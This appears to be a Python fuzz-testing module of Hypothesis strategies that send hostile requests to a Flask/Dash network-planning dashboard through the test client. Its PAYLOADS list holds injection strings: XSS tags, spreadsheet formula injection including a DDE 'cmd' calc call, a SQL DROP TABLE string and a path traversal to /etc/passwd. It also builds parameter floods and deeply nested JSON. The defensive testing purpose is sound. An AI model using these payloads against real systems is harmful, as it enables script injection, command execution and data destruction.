"""Hypothesis strategies for hostile input: everything a user or a client can type or send.

Shared by the in-suite property tests (``tests/fuzz/test_*.py``, a few hundred examples each so
the suite stays fast) and the long run ``python -m tests.fuzz.fuzz_api`` (>= 10,000 requests,
whose figures are recorded in ``docs/reliability.md``).

A request is a plain dict ``{"method", "path", "query", "headers", "body"}`` built here and sent
with Flask's test client by :func:`send`, so the same case can be replayed from a failure report.
"""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

POP_IDS = ("HKG", "SIN", "BOM", "BKK", "MNL", "SGN", "ICN", "NRT", "KUL", "CGK", "SJC", "IAD",
           "ORD", "GRU", "LHR", "FRA", "MAD", "CDG", "SYD")
ORIGIN_IDS = ("cn-hongkong", "ap-southeast-1", "us-west-1", "us-east-1", "eu-central-1")

#: Text a hostile or careless user types: markup, formula injection, encodings, control bytes.
PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
    "\r=1", "'; DROP TABLE clients; --", "../../etc/passwd", "%00", "\x00", "\ufeff", "\u202e",
    "𝟘", "٣", "１２", "nan", "NaN", "inf", "-Infinity", "1e309", "-1e309", "0x1A", "1_000",
    "١٢٫٥", "  ", "", "null", "true", "[]", "{}", "%ff", "%", "%%", "&", "=", "?", "#", ";", ",",
    "São Paulo", "東京", "Zürich", "a" * 300,
)

_numbers_text = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.floats(-200, 200).map(lambda v: f"{v:.6f}"),
    st.integers(-10**30, 10**30).map(str),
    st.sampled_from(["90", "-90", "180", "-180", "90.0000001", "-180.0001", "1e3", ".5", "5.",
                     "+1", "--1", "1e", "e1", " 1 ", "1,5", "1.2.3", "0x10", "١", "1e-400"]),
)
hostile_text = st.one_of(
    st.sampled_from(PAYLOADS), _numbers_text,
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=20),
)

_json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-10**20, 10**20), st.integers(),
    st.floats(allow_nan=False, allow_infinity=False), hostile_text,
    # JSON integers have no size limit: float() of these raises OverflowError, not ValueError
    st.sampled_from([10**400, -10**400, 2**63, -2**63 - 1]),
)
json_values = st.recursive(
    _json_scalars,
    lambda children: st.one_of(st.lists(children, max_size=4),
                               st.dictionaries(hostile_text, children, max_size=4)),
    max_leaves=12,
)


def _client_obj() -> st.SearchStrategy[Any]:
    good = st.fixed_dictionaries(
        {"lat": st.floats(-90, 90), "lon": st.floats(-180, 180)},
        optional={"name": hostile_text, "weight": st.floats(0, 1e6)})
    bad = st.dictionaries(st.sampled_from(["lat", "lon", "name", "weight", "x", ""]), json_values,
                          max_size=5)
    return st.one_of(good, bad, json_values)


json_bodies = st.one_of(
    st.fixed_dictionaries({"clients": st.lists(_client_obj(), max_size=6)},
                          optional={"origin": st.one_of(st.sampled_from(ORIGIN_IDS), json_values),
                                    "down": st.one_of(st.lists(st.sampled_from(POP_IDS), max_size=4),
                                                      json_values)}),
    st.dictionaries(hostile_text, json_values, max_size=4),
    json_values,
).map(lambda doc: json.dumps(doc).encode())

_csv_cells = st.one_of(_numbers_text, hostile_text, st.sampled_from(["lat", "lon", "name",
                                                                     "weight", "latitude"]))
csv_text = st.lists(st.lists(_csv_cells, min_size=1, max_size=5).map(",".join),
                    max_size=8).map("\n".join)

#: Bodies in every encoding a spreadsheet might save, plus binary junk.
csv_bodies = st.one_of(
    csv_text.map(lambda t: t.encode("utf-8", "surrogatepass")),
    csv_text.map(lambda t: t.encode("utf-16")),
    csv_text.map(lambda t: t.encode("latin-1", "replace")),
    st.binary(max_size=300),
    st.sampled_from([b"lat,lon\n48.8,2.3\n", b"\xef\xbb\xbflat,lon\n1,2\n", b"\xff\xfe\x00\x00",
                     b"48.8,2.3,\xe9t\xe9\n", b"PK\x03\x04\x14\x00", b"%PDF-1.7\n"]),
)

#: Mostly valid client files (so the fuzz also reaches routing and the answer), with hostile
#: names: formula injection, markup, quotes.
good_csv_bodies = st.lists(
    st.builds(lambda la, lo, n, w: f"{la:.4f},{lo:.4f},{n},{w:g}", st.floats(-90, 90),
              st.floats(-180, 180),
              st.sampled_from(PAYLOADS).map(lambda t: '"' + t.replace('"', '""') + '"'),
              st.floats(0, 100)),
    min_size=1, max_size=20).map(lambda rows: ("lat,lon,name,weight\n" + "\n".join(rows))
                                 .encode("utf-8", "replace"))

#: Query-string shaped text (URL state of the page: ``?clients=...&origin=...&down=...``).
_query_atoms = st.one_of(
    st.sampled_from(["clients=", "origin=", "down=", "endpoint=", "&", "=", ";", ",", "%2C",
                     "%3B", "%", "%zz", "%ff", "+", "?", "#", "CDG", "eu-central-1", "48.8566",
                     "2.3522", "-91", "181", "nan", "inf", "1e999", "CLB", "ENI", "planned=",
                     "JNB:", ":"]),
    hostile_text.map(lambda t: quote(t, safe="")),
    hostile_text,
)
url_queries = st.one_of(
    st.lists(_query_atoms, max_size=16).map("".join),
    st.builds(lambda cs, o, d: f"?clients={cs}&origin={o}&down={d}",
              st.lists(st.builds(lambda a, b, n: f"{a},{b},{quote(n, safe='')}", _numbers_text,
                                 _numbers_text, hostile_text), max_size=5).map(";".join),
              st.one_of(st.sampled_from(ORIGIN_IDS), hostile_text.map(quote)),
              st.lists(st.one_of(st.sampled_from(POP_IDS), hostile_text.map(quote)),
                       max_size=4).map(",".join)),
)


def _query(params: list[tuple[str, str]]) -> str:
    return "&".join(f"{quote(k, safe='')}={quote(v, safe='', encoding='utf-8', errors='surrogatepass')}"
                    for k, v in params)


#: Planned PoP values (``planned=``, docs/planning.md): well-formed, malformed and hostile.
_planned_values = st.one_of(
    st.builds(lambda i, a, b: f"{i}:{a},{b}", st.sampled_from(["JNB", "CDG", "P1", "x", ""]),
              _numbers_text, _numbers_text),
    st.lists(st.sampled_from(["JNB:1,2", "LOS:6.45,3.39,Lagos,5", "BJS:39.9,116.4", ";", ":"]),
             max_size=12).map(";".join),
    hostile_text)
_api_param = st.one_of(
    st.tuples(st.one_of(st.sampled_from(["lat", "lon", "ip", "down", "origin", "k"]),
                        hostile_text),
              hostile_text),
    st.tuples(st.just("planned"), _planned_values))
nearest_requests = st.builds(
    lambda params, raw: {"method": "GET", "path": "/api/v1/nearest",
                         "query": _query(params) + raw, "headers": {}, "body": b""},
    st.one_of(
        st.builds(lambda la, lo, extra: [("lat", la), ("lon", lo)] + extra, _numbers_text,
                  _numbers_text, st.lists(_api_param, max_size=3)),
        st.lists(_api_param, max_size=6)),
    st.sampled_from(["", "", "", "&lat=%ff", "&%zz=1", "&down=%00", "&k=", "&&&", "&lat"]),
)
assign_requests = st.builds(
    lambda ctype, body, params: {"method": "POST", "path": "/api/v1/assign",
                                 "query": _query(params),
                                 "headers": ({"Content-Type": ctype} if ctype else {}),
                                 "body": body},
    st.sampled_from(["application/json"] * 4 + ["text/csv"] * 4 + ["text/csv; charset=utf-16",
                     "application/json; charset=latin-1", "text/plain",
                     "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
                     "", "application/jsonx", "*/*"]),
    st.one_of(json_bodies, csv_bodies, good_csv_bodies),
    st.lists(st.tuples(st.sampled_from(["origin", "down", "x"]),
                       st.one_of(st.sampled_from(ORIGIN_IDS + POP_IDS), hostile_text)),
             max_size=2),
)
path_requests = st.builds(
    lambda method, prefix, seg: {"method": method, "path": prefix + quote(seg, safe="/%"),
                                 "query": "", "headers": {}, "body": b""},
    st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"]),
    st.sampled_from(["/api/v1/pops/", "/api/v1/origins/", "/api/v1/", "/api/", "/api/v2/",
                     "/assets/", "/_dash-component-suites/", "/healthz/", "/", "/_dash-layout/"]),
    hostile_text,
)

#: Static files: registered component-suite files the dash wheel does not ship (a 500 before
#: issue 13), fingerprint and query-string variants of real ones (each once grew the
#: compressed-file cache).
static_requests = st.builds(
    lambda method, path, query: {"method": method, "path": path, "query": query, "headers": {},
                                 "body": b""},
    st.sampled_from(["GET", "GET", "HEAD"]),
    st.one_of(
        st.sampled_from(["/_dash-component-suites/dash/dcc/async-mathjax.js.map",
                         "/_dash-component-suites/dash/dash-renderer/build/dash_renderer.min.js.map",
                         "/_dash-component-suites/dash/deps/prop-types@15.8.1.min.js",
                         "/assets/map_click.js", "/assets/upload_guard.js"]),
        st.builds(lambda v, m: f"/_dash-component-suites/dash/dcc/async-mathjax.v{v}m{m}.js.map",
                  st.sampled_from(["1_0_0", "4_4_1", "x"]), st.integers(0, 10**12)),
        st.builds(lambda m: f"/_dash-component-suites/dash/deps/prop-types@15.v4_4_1m{m}.8.1.min.js",
                  st.integers(0, 10**12)),
    ),
    st.one_of(st.just(""), st.integers().map(lambda n: f"m={n}"),
              st.builds(lambda n, t: f"x={n}&m={quote(t, safe='')}", st.integers(), hostile_text)),
)


def _or_json(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """A realistic value most of the time, any JSON value sometimes."""
    return st.one_of(strategy, strategy, json_values)


_pop = _or_json(st.sampled_from(POP_IDS))
_region = _or_json(st.sampled_from(ORIGIN_IDS))
_gbps = _or_json(st.one_of(st.floats(0, 1e6), st.integers(-5, 5),
                           st.sampled_from([0, -1, 1e7, "10", "", "nan"])))
_good_client = st.fixed_dictionaries(
    {"lat": st.floats(-90, 90), "lon": st.floats(-180, 180)},
    optional={"name": hostile_text, "weight": st.floats(0, 1e6)})
#: A scenario store the app could have written (``Scenario.to_dict()``): valid ids and values,
#: hostile names; ``Scenario.from_dict`` accepts it unless two endpoints clash.
valid_scenario_dicts = st.fixed_dictionaries(
    {"clients": st.lists(_good_client, max_size=5)},
    optional={
        "origin": st.sampled_from(ORIGIN_IDS), "down": st.lists(st.sampled_from(POP_IDS),
                                                                 max_size=4, unique=True),
        "endpoint_type": st.sampled_from(["CLB", "ENI"]),
        "mappings": st.lists(st.tuples(st.sampled_from(ORIGIN_IDS),
                                       st.lists(st.sampled_from(POP_IDS), min_size=1, max_size=3,
                                                unique=True)).map(list), max_size=2),
        "endpoints_down": st.lists(st.sampled_from(ORIGIN_IDS), max_size=1),
        "capacity_gbps": st.dictionaries(st.sampled_from(POP_IDS), st.floats(0.1, 100),
                                         max_size=3),
        "default_capacity_gbps": st.one_of(st.none(), st.floats(0.1, 100)),
        "demand_scale": st.one_of(st.none(), st.floats(0.1, 1000)),
        "client_set": st.sampled_from(["cities25k"]),
    })
#: The scenario store with fields type-confused (a hand-crafted request).
scenario_dicts = st.fixed_dictionaries(
    {"clients": st.lists(_client_obj(), max_size=4)},
    optional={
        "origin": _region, "down": _or_json(st.lists(st.sampled_from(POP_IDS), max_size=4)),
        "endpoint_type": _or_json(st.sampled_from(["CLB", "ENI"])),
        "mappings": _or_json(st.lists(st.tuples(_region, st.lists(_pop, max_size=3))
                                      .map(list), max_size=2)),
        "endpoints_down": _or_json(st.lists(_region, max_size=2)),
        "observed": _or_json(st.lists(st.fixed_dictionaries(
            {"client": _or_json(st.integers(-1, 5)), "pop": _pop}), max_size=3)),
        "capacity_gbps": _or_json(st.dictionaries(st.one_of(st.sampled_from(POP_IDS),
                                                            hostile_text), _gbps, max_size=3)),
        "default_capacity_gbps": _gbps,
        "demand_source": _or_json(st.sampled_from(["clients", "population"])),
        "demand_scale": _gbps,
        "client_set": _or_json(st.sampled_from(["cities25k", "nope"])),
    })
#: Scenario stores over the client cap (issue 13, finding 4): well-formed clients, too many of
#: them, alone or with the 25,000-city client set that the cap also counts. The fuzz app's cap
#: is 25,500 (the set plus 500 own clients); bodies stay under its 1.1 MB request cap (the
#: 310,000-client store of the issue is sent to gunicorn by tests/serving/test_caps_gunicorn.py).
over_cap_stores = st.one_of(
    st.integers(501, 1_500).map(lambda n: {"clients": [{"lat": 1.5, "lon": 2.5}] * n,
                                           "client_set": "cities25k"}),
    st.sampled_from([25_501, 40_000]).map(lambda n: {"clients": [{"lat": 1, "lon": 2}] * n}),
)


def _flood(n: int, piece: str) -> str:
    return "?" + "&".join(piece.format(i=i) for i in range(n))


#: Links that used to amplify (finding 6): floods of unknown or repeated parameters, thousands
#: of bad pieces in one value, more clients than a link holds, links over the length cap.
link_floods = st.one_of(
    st.builds(_flood, st.sampled_from([33, 1_000, 30_000]),
              st.sampled_from(["p{i}=1", "origin=zz{i}", "clients=x{i}", "%E2%80%AE{i}=1"])),
    st.just(_flood(100_000, "p{i}=1")),  # the 100,000 parameters (0.9 MB)
    st.integers(501, 2_000).map(lambda n: "?clients=" + ";".join(["1.5,2.5"] * n)),
    st.integers(100, 3_000).map(lambda n: "?endpoints=" + ";".join(f"x{i}:CDG" for i in range(n))
                                + "&down=" + ",".join(f"Q{i}" for i in range(n))),
    st.integers(8_001, 40_000).map(lambda n: "?model=" + "x" * n),
)
#: A map click as plotly reports it (``clickData``): a point of some layer.
click_data = st.fixed_dictionaries({"points": _or_json(st.lists(st.fixed_dictionaries(
    {"curveNumber": _or_json(st.integers(0, 20))},
    optional={"pointNumber": json_values, "pointIndex": json_values,
              "lat": _or_json(st.floats(-90, 90)), "lon": _or_json(st.floats(-180, 180)),
              "customdata": st.one_of(st.integers(-2, 6), _pop,
                                      st.lists(_or_json(st.sampled_from(POP_IDS)), max_size=2))}),
    max_size=2))})
_N1_NUMBERS = ("clients_moved", "demand_moved", "p50_before_ms", "p50_after_ms",
               "p50_change_ms", "p95_before_ms", "p95_after_ms", "p95_change_ms", "unserved",
               "worst_utilisation", "worst_load")


def _n1_rows(value: st.SearchStrategy[Any], text: st.SearchStrategy[Any]
             ) -> st.SearchStrategy[Any]:
    return st.lists(st.fixed_dictionaries(
        {"pop_id": text, "moved_to": text, "worst_pop": text, **{k: value for k in _N1_NUMBERS}},
        optional={"name": text}), max_size=4)


#: A stored N-1 result (``capacity.run_n1``): complete rows of plausible values, or rows with
#: type-confused or missing fields.
n1_results = st.fixed_dictionaries(
    {"rows": st.one_of(
        _n1_rows(st.one_of(st.none(), st.floats(-1e3, 1e3), st.integers(0, 100)),
                 st.one_of(st.sampled_from(POP_IDS), hostile_text)),
        _n1_rows(_or_json(st.floats(-1e3, 1e3)), _pop),
        json_values)},
    optional={"key": hostile_text, "origin": _region, "points": _or_json(st.integers(0, 10**6)),
              "seconds": _or_json(st.floats(0, 100)), "computed": _or_json(hostile_text)})
#: Rows of the utilisation table as the DataTable sends them back after an edit.
capacity_table_rows = st.lists(st.one_of(
    st.fixed_dictionaries({"id": _pop, "capacity_gbps": _gbps}), json_values), max_size=5)
#: An exported scenario file (``domain.exports.scenario_to_json``), as a data URL.
scenario_files = st.one_of(
    st.fixed_dictionaries({"format": _or_json(st.just("anycast-eip-scenario")),
                           "version": _or_json(st.just(1)), "scenario": _or_json(scenario_dicts)})
    .map(lambda d: json.dumps(d).encode()),
    json_values.map(lambda d: json.dumps(d).encode()), csv_bodies,
).map(lambda b: "data:application/json;base64," + base64.b64encode(b).decode())
#: Notice area children (rendered ``html.Div``s in their JSON form).
notice_children = st.lists(st.one_of(
    st.fixed_dictionaries({"type": st.just("Div"), "namespace": st.just("dash_html_components"),
                           "props": st.fixed_dictionaries({"children": st.one_of(
                               hostile_text.map(lambda t: "Endpoints: " + t), json_values)})}),
    json_values), max_size=3)

#: Every edit op the round trip knows: the domain edits (``dashboard.domain.edits.OPS``) and
#: the widget requests resolved first (``dashboard.services.requests.resolve_request``), as
#: ``assets/edits.js`` writes them into the edit store.
EDIT_OPS = ("add", "remove", "clear", "notice", "client_set", "toggle_pop", "set_down",
            "endpoint_add", "endpoint_map", "endpoint_remove", "endpoint_default",
            "endpoint_down", "observe", "capacity", "replace", "model", "provider_load",
            "bias", "add-planned", "remove-planned", "update-planned")
REQUEST_OPS = ("city", "preset", "coords", "upload", "import", "model_input", "capacity_input",
               "capacity_table", "observe_input", "observe_trace", "planned_input",
               "planned_city", "planned_table")

#: Props of pattern-matching components, keyed by (id ``type``, property).
_PATTERN_VALUES: dict[tuple[str, str], st.SearchStrategy[Any]] = {
    ("observed-pop", "value"): _or_json(st.sampled_from(("",) + POP_IDS)),
    ("endpoint-pops", "value"): _or_json(st.lists(_pop, max_size=3)),
    ("model-param", "value"): _gbps,
}
#: Values of pattern-matching wildcards (``{"type": ..., "client" | "pop" | "region": ALL}``).
_WILDCARD_VALUES = st.one_of(st.integers(-1, 5), st.sampled_from(POP_IDS + ORIGIN_IDS),
                             _json_scalars, st.lists(_json_scalars, max_size=2))


def callback_value(component: str, prop: str) -> st.SearchStrategy[Any]:
    """Values for one callback input: realistic-but-hostile for the props we know, plus any
    JSON (a hand-crafted request can send anything)."""
    upload = st.one_of(
        csv_bodies.map(lambda b: "data:text/csv;base64," + base64.b64encode(b).decode()),
        st.sampled_from(["data:text/csv;base64,!!!", "data:,", "no comma", "data:text/csv;base64,"
                         + "A" * 4001]))
    scenario_dict = st.one_of(valid_scenario_dicts, scenario_dicts, over_cap_stores)
    known: dict[tuple[str, str], st.SearchStrategy[Any]] = {
        ("url", "search"): st.one_of(url_queries, url_queries, link_floods),
        ("url", "href"): url_queries.map(lambda q: "http://127.0.0.1/" + q),
        ("scenario-store", "data"): scenario_dict,
        ("scenario-edit", "data"): st.fixed_dictionaries(
            {"op": st.one_of(st.sampled_from(EDIT_OPS), st.sampled_from(REQUEST_OPS),
                             json_values)},
            optional={"clients": st.lists(_client_obj(), max_size=4),
                      "index": _or_json(st.integers(-1, 5)), "notices": json_values,
                      "source": json_values, "nonce": json_values,
                      "key": _or_json(st.sampled_from(["cities25k", "nope"])),
                      "pop": _pop, "down": _or_json(st.lists(_pop, max_size=3)),
                      "region": _region, "pops": _or_json(st.lists(_pop, max_size=3)),
                      # fields of provider_load (the Provider panel)
                      "origin": _region, "endpoint_type": _or_json(st.sampled_from(
                          ["CLB", "ENI", "ALB", "NLB"])),
                      "mappings": _or_json(st.lists(st.tuples(_region, st.lists(_pop,
                                                                                max_size=3)),
                                                    max_size=3)),
                      "capacity": _or_json(st.dictionaries(st.sampled_from(POP_IDS), _gbps,
                                                           max_size=2)),
                      "default_gbps": _gbps, "demand_scale": _gbps,
                      "instance_mbps": _gbps, "spill": json_values,
                      "demand_source": _or_json(st.sampled_from(["clients", "population"])),
                      "scenario": st.one_of(valid_scenario_dicts, scenario_dicts,
                                            over_cap_stores),
                      # fields of the widget requests (REQUEST_OPS)
                      "id": st.one_of(st.integers(), hostile_text), "text": hostile_text,
                      "contents": st.one_of(upload, scenario_files), "filename": hostile_text,
                      "name": _or_json(st.sampled_from(["overhead_ms", "pop_overhead_ms",
                                                        "x"])),
                      "values": _or_json(st.lists(_gbps, max_size=3)), "ids": json_values,
                      "changed": _or_json(st.sampled_from(["source", "scale", "default"])),
                      "scale": _gbps, "default": _gbps, "rows": capacity_table_rows,
                      "value": _pop, "reset": json_values,
                      # planned access points (add-planned and the planned PoPs table)
                      "lat": _or_json(st.floats(-100, 100)),
                      "lon": _or_json(st.floats(-200, 200)), "capacity_gbps": _gbps}),
        ("coords-input", "value"): hostile_text,
        ("city-search", "search_value"): hostile_text,
        ("city-search", "value"): st.one_of(st.integers(), hostile_text),
        ("preset-select", "value"): hostile_text,
        ("clients-upload", "contents"): upload,
        ("clients-upload", "filename"): hostile_text,
        ("origin-select", "value"): st.one_of(st.sampled_from(ORIGIN_IDS), hostile_text),
        ("endpoint-type", "value"): st.one_of(st.sampled_from(["CLB", "ENI"]), hostile_text),
        ("assignment-table", "active_cell"): st.one_of(
            st.fixed_dictionaries({"row": json_values, "column": json_values,
                                   "column_id": st.sampled_from(["remove", "client"]),
                                   "row_id": st.one_of(st.integers(-1, 5), json_values)}),
            json_values),
        # failover, capacity planning and support views
        ("world-map", "clickData"): click_data,
        ("failover-prev", "data"): st.fixed_dictionaries(
            {"clients": hostile_text, "n": json_values, "origin": _region,
             "down": _or_json(st.lists(_pop, max_size=3)),
             "endpoints_down": _or_json(st.lists(_region, max_size=2)),
             "mappings": _or_json(st.lists(st.tuples(_region, st.lists(_pop, max_size=2))
                                           .map(list), max_size=2))}),
        ("map-base", "data"): hostile_text,
        ("table-base", "data"): hostile_text,
        ("notice", "children"): notice_children,
        ("endpoint-add-region", "value"): _region,
        ("endpoint-add-pops", "value"): st.lists(_pop, max_size=3),
        ("view-tabs", "value"): st.sampled_from(["map", "capacity", "support"]),
        ("show-catchments", "value"): st.sampled_from([[], ["on"]]),
        ("demand-source", "value"): st.sampled_from(["clients", "population"]),
        ("demand-scale", "value"): _gbps,
        ("default-capacity", "value"): _gbps,
        ("pop-capacity-table", "data"): capacity_table_rows,
        ("pop-capacity-table", "data_timestamp"): st.integers(0, 2**53),
        ("n1-result", "data"): n1_results,
        ("explain-client", "value"): st.integers(-1, 5),
        ("scenario-import", "contents"): scenario_files,
        ("scenario-import", "filename"): hostile_text,
    }
    base = known.get((component, prop))
    if base is None and component.startswith("{"):
        base = _PATTERN_VALUES.get((json.loads(component).get("type"), prop))
    return json_values if base is None else st.one_of(base, base, json_values)


def _pattern_entries(draw: Any, dep: dict[str, Any]) -> list[dict[str, Any]]:
    """What the renderer sends for an ALL pattern-matching input or state: one entry per
    matching component, each with its concrete (here: type-confused) id."""
    pattern = json.loads(dep["id"])
    entries = []
    for _ in range(draw(st.integers(0, 3))):
        cid = {k: (draw(_WILDCARD_VALUES) if v == ["ALL"] else v) for k, v in pattern.items()}
        value = (draw(st.one_of(st.just(cid), json_values)) if dep["property"] == "id"
                 else draw(callback_value(dep["id"], dep["property"])))
        entries.append({"id": cid, "property": dep["property"], "value": value})
    return entries


def _prop_id(item: dict[str, Any]) -> str:
    cid = item["id"]
    if isinstance(cid, dict):
        cid = json.dumps(cid, sort_keys=True, separators=(",", ":"))
    return f"{cid}.{item['property']}"


@st.composite
def callback_requests(draw: Any, dependencies: list[dict[str, Any]]) -> dict[str, Any]:
    """A well-formed ``/_dash-update-component`` request for a random registered callback, with
    hostile values -- or, sometimes, a structurally broken one. Clientside (browser-only)
    callbacks are drawn too, one request in ten: the server has no function for them and must
    refuse them with a JSON 400 (they were a 500 with a logged traceback, issue 13)."""
    server_side = [d for d in dependencies if not d.get("clientside_function")]
    clientside = [d for d in dependencies if d.get("clientside_function")]
    if clientside and draw(st.integers(0, 9)) == 0:
        dep = draw(st.sampled_from(clientside))
    else:
        dep = draw(st.sampled_from(server_side))
    if draw(st.integers(0, 9)) == 0:  # structurally broken
        if draw(st.integers(0, 4)) == 0:  # nested deeper than a JSON parser recurses
            n = draw(st.integers(900, 20_000))
            text = draw(st.sampled_from(["[" * n + "]" * n, '{"a":' * n + "1" + "}" * n]))
        else:
            text = json.dumps(draw(st.one_of(json_values, st.fixed_dictionaries(
                {"output": st.one_of(st.just(dep["output"]), hostile_text),
                 "inputs": json_values, "state": json_values,
                 "changedPropIds": json_values}))))
        return {"method": "POST", "path": "/_dash-update-component", "query": "",
                "headers": {"Content-Type": "application/json"}, "body": text.encode()}

    # Pattern-matching (ALL) inputs and outputs: mostly as the renderer sends them (a list of
    # concrete ids), sometimes as one item with the pattern as its id.
    as_renderer = draw(st.integers(0, 3)) > 0

    def items(decl: list[dict[str, Any]]) -> list[Any]:
        return [_pattern_entries(draw, d) if as_renderer and d["id"].startswith("{") else
                {"id": d["id"], "property": d["property"],
                 "value": draw(callback_value(d["id"], d["property"]))} for d in decl]

    inputs = items(dep["inputs"])
    state = items(dep["state"])
    out = dep["output"]

    def output(part: str) -> Any:
        cid, prop = part.rsplit(".", 1)
        if as_renderer and cid.startswith("{"):
            pattern = json.loads(cid)
            return [{"id": {k: (draw(_WILDCARD_VALUES) if v == ["ALL"] else v)
                            for k, v in pattern.items()}, "property": prop}
                    for _ in range(draw(st.integers(0, 3)))]
        return {"id": cid, "property": prop}

    if out.startswith(".."):
        outputs: Any = [output(p) for p in out.strip(".").split("...") if p]
    else:
        outputs = output(out)
    prop_ids = [_prop_id(e) for i in inputs for e in (i if isinstance(i, list) else [i])]
    changed = (draw(st.lists(st.sampled_from(prop_ids), min_size=1, max_size=len(prop_ids),
                             unique=True)) if prop_ids else [])
    body = {"output": out, "outputs": outputs, "inputs": inputs, "state": state,
            "changedPropIds": changed}
    text = json.dumps(body, allow_nan=False)
    if draw(st.integers(0, 19)) == 0:  # Python's and Flask's JSON parser accept these tokens
        text = text.replace('"value": null', '"value": ' + draw(st.sampled_from(
            ["NaN", "Infinity", "-Infinity", "1e999", "-0", "123456789012345678901234567890"])), 1)
    return {"method": "POST", "path": "/_dash-update-component", "query": "",
            "headers": {"Content-Type": "application/json"}, "body": text.encode()}


def api_requests() -> st.SearchStrategy[dict[str, Any]]:
    return st.one_of(nearest_requests, assign_requests, path_requests, static_requests)


def send(client: Any, req: dict[str, Any]) -> Any:
    """Send one generated request with a Flask test client; returns the response."""
    url = req["path"] + ("?" + req["query"] if req["query"] else "")
    return client.open(url, method=req["method"], data=req["body"], headers=req["headers"])
